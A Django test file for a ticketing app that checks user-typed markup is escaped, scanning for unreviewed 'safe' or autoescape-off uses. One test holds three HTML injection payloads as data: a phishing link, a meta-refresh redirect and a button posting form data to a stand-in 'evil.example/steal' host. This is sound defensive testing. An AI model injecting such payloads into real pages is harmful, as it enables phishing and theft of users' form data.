"""Markup that people type is shown as text, never run as HTML: no template or module turns
escaping off except the reviewed uses listed here, and a service's help texts (typed by a
provider's head) reach the filing page escaped."""

import re
from fnmatch import fnmatch
from pathlib import Path

from django.urls import reverse

from agreements.models import Service

ROOT = Path(__file__).resolve().parents[2]
APPS = [
    "common", "config", "departments", "outbox", "chats", "webhooks", "agreements", "tickets",
    "surveys", "directory", "dashboards",
]  # fmt: skip
UNSAFE_IN_TEMPLATES = re.compile(r"\|\s*safe(seq)?\b|{%\s*autoescape\s+off")
UNSAFE_IN_PYTHON = re.compile(r"\b(mark_safe|SafeString|format_html)\(")

# (path pattern, construct, why it is safe). Keep it short: each entry is a reviewed exception.
REVIEWED = [
    (
        "templates/emails/*.txt",
        "autoescape off",
        "plain-text e-mail (subjects and bodies): no mail program reads it as HTML, and "
        "escaping would show &amp; and &#x27; in people's names and titles",
    ),
    (
        "templates/chats/*.txt",
        "autoescape off",
        "plain text that chats.vendors escapes for each app's markup and puts into its JSON "
        "as a string; Accord never renders it as HTML",
    ),
    (
        "tickets/templatetags/tickets_tags.py",
        "format_html(",
        "a constant format string; format_html escapes the instant it is given",
    ),
]


def template_files() -> list[Path]:
    folders = [ROOT / "templates", *(ROOT / app / "templates" for app in APPS)]
    return [path for folder in folders if folder.exists() for path in folder.rglob("*.*")]


def python_files() -> list[Path]:
    return [path for app in APPS for path in (ROOT / app).rglob("*.py")]


def unsafe_uses() -> list[tuple[str, str]]:
    """Every (path, construct) that turns escaping off, in templates and in Python."""
    found = []
    for files, pattern in ((template_files(), UNSAFE_IN_TEMPLATES),
                           (python_files(), UNSAFE_IN_PYTHON)):  # fmt: skip
        for path in files:
            text = path.read_text(encoding="utf-8", errors="replace")
            for match in pattern.finditer(text):
                found.append((str(path.relative_to(ROOT)), match.group(0)))
    return found


def reviewed(path: str, construct: str) -> bool:
    return any(fnmatch(path, pattern) and kind in construct for pattern, kind, _why in REVIEWED)


def test_no_template_or_module_turns_escaping_off_outside_the_reviewed_list():
    unreviewed = [use for use in unsafe_uses() if not reviewed(*use)]
    assert unreviewed == [], (
        "Markup is marked safe here; escape it (or sanitise it with nh3) instead, or review it "
        "and add it with a reason to REVIEWED"
    )


def test_every_reviewed_exception_is_still_in_use():
    uses = unsafe_uses()
    for pattern, kind, _why in REVIEWED:
        assert any(fnmatch(path, pattern) and kind in construct for path, construct in uses), (
            pattern
        )


HOSTILE_HELP = {
    "link": '<a href="https://evil.example/login">Sign in again</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "button": '<button formaction="https://evil.example/steal">Submit</button>',
}


def test_a_services_help_texts_show_as_text_on_the_filing_page(client, staff, agreement):
    service = Service.objects.get(name="Payroll data extract")
    service.form_fields = [
        {"name": name, "label": name.title(), "type": "text", "help": help_text}
        for name, help_text in HOSTILE_HELP.items()
    ]
    service.save()
    client.force_login(staff)

    page = client.get(reverse("tickets:new", args=[service.pk])).content.decode()

    assert '<a href="https://evil.example' not in page
    assert "<meta http-equiv" not in page
    assert 'formaction="https://evil.example' not in page
    assert "&lt;a href=&quot;https://evil.example/login&quot;&gt;Sign in again&lt;/a&gt;" in page
    assert "&lt;meta http-equiv=&quot;refresh&quot;" in page
    assert "&lt;button formaction=&quot;https://evil.example/steal&quot;&gt;" in page
